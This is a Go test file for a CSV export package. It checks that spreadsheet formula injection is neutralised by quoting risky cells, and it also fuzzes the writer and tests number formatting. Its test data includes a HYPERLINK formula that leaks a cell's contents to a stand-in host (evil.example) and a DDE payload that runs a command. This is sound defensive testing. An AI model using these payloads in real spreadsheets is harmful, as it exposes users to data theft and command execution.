package encode

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/frontline/frontline/geo"
	"github.com/frontline/frontline/internal/testkit"
)

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		`+cmd|' /C calc'!A0`: `'+cmd|' /C calc'!A0`,
		"-2+3":               "'-2+3",
		"@SUM(A1)":           "'@SUM(A1)",
		"\t=1":               "'\t=1",
		"\r=1":               "'\r=1",
		"＝1+1":               "'＝1+1",
		"-1.5":               "-1.5",
		"+2":                 "+2",
		"-.5e-3":             "-.5e-3",
		"-":                  "'-",
		"2016-11-20":         "2016-11-20",
		"a = b":              "a = b",
		"":                   "",
		"[2][3]":             "[2][3]",
	} {
		assert.Equal(t, want, SafeCell(in), "%q", in)
	}
}

// TestChangesCSVNeutralisesFormulas: issue 22's notes reach changes.csv as
// text a spreadsheet shows, not runs.
func TestChangesCSVNeutralisesFormulas(t *testing.T) {
	fsys := fstest.MapFS{}
	for _, f := range []string{geo.MetaFile, geo.SidesFile, geo.DistrictsFile, geo.ControlFile} {
		b, err := os.ReadFile(filepath.Join(testkit.SmallDir, f))
		require.NoError(t, err)
		fsys[f] = &fstest.MapFile{Data: b}
	}
	control := string(fsys[geo.ControlFile].Data) +
		"2016-12-01,north-west,opposition,1,[9],\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"\n" +
		"2016-12-02,north-west,government,1,+cmd|' /C calc'!A0,@SUM(1)\n"
	fsys[geo.ControlFile] = &fstest.MapFile{Data: []byte(control)}
	ds, err := geo.LoadDir(fsys, "small")
	require.NoError(t, err)
	var buf bytes.Buffer
	require.NoError(t, ChangesCSV(&buf, ds, geo.Range{First: ds.Range().First, Last: ds.Range().Last}))
	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	var notes, sources []string
	for _, r := range rows[1:] {
		if r[1] == "north-west" {
			sources, notes = append(sources, r[6]), append(notes, r[7])
		}
	}
	assert.Contains(t, notes, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`)
	assert.Contains(t, notes, `'@SUM(1)`)
	assert.Contains(t, sources, `'+cmd|' /C calc'!A0`)
}

// FuzzCSVWriter: whatever the cells, the CSV reads back as the same
// records, each cell as it was or after a single quote, and no cell begins
// with a formula character unless it is a plain number.
func FuzzCSVWriter(f *testing.F) {
	for _, s := range []string{"=1+1\x1f-1.5", "@a\x1f\"q\"\x1f,", "\t\x1f\r\n=x\x1f+", "a\nb\x1f-", "-3e5\x1f+.5\x1f-x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		// A fixed first cell: a record of one empty cell is an empty line,
		// which readers skip.
		record := append([]string{"x"}, strings.Split(s, "\x1f")...)
		var buf bytes.Buffer
		w := NewCSVWriter(&buf)
		require.NoError(t, w.Write(record))
		w.Flush()
		require.NoError(t, w.Error())
		r := csv.NewReader(&buf)
		r.FieldsPerRecord = -1
		got, err := r.ReadAll()
		require.NoError(t, err)
		require.Len(t, got, 1)
		require.Len(t, got[0], len(record))
		for i, cell := range got[0] {
			// encoding/csv reads \r\n inside a quoted cell as \n.
			want := strings.ReplaceAll(record[i], "\r\n", "\n")
			if cell != want {
				require.Equal(t, "'"+want, cell, "cell %d", i)
			}
			assert.False(t, geo.FormulaLike(cell), "cell %d %q would run as a formula", i, cell)
		}
	})
}

// Areas and lengths keep 6 decimals; a value that rounds to zero from
// below (a net of -1e-10 km², the rounding of two large totals) is
// 0.000000, not -0.000000.
func TestFixed(t *testing.T) {
	for v, want := range map[float64]string{
		0: "0.000000", -1e-10: "0.000000", -4.9e-7: "0.000000", -5.1e-7: "-0.000001", 1.5: "1.500000", -2.25: "-2.250000",
	} {
		assert.Equal(t, want, fixed(v), "%g", v)
	}
}
